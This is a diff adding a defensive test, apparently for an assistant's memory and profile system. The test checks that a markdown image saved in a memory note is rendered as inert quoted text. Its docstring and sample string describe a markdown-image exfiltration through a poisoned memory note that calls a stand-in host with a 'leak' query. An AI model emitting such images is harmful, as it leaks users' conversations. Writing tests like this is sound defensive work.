@@ -66,3 +66,18 @@ def test_a_window_summary_shows_hidden_characters_of_the_pruned_turns() -> None:
     window = Window(messages=[Message.user(said), Message.assistant("OK"), Message.user("Aisle.")])
     summary = window.prune(keep_turns=1).summary_text()
     assert _hidden(summary) == [] and "\\udb40" in summary
+
+
+def test_a_markdown_image_in_memory_reaches_the_prompt_as_text_that_loads_nothing() -> None:
+    """A note holding ``![x](https://t.example/p.gif?q=...)`` was rendered as written: a model
+    that copies it into its answer makes the viewer that shows the answer fetch the address,
+    with whatever the query carries (a known way to leak a conversation)."""
+    image = "![x](https://t.example/p.gif?q=leak)"
+    with Engine() as engine:
+        assert engine.save_memory_note(USER, DOMAIN, f"Likes window seats {image}",
+                                       "global").saved  # fmt: skip
+        text = engine.render_profile(USER, DOMAIN).text
+    assert "![" not in text
+    [line] = [ln for ln in text.splitlines() if "window seats" in ln]
+    quoted = line[line.index('"') : line.rindex('"') + 1]
+    assert json.loads(quoted) == f"Likes window seats {image}"  # the same text, read back
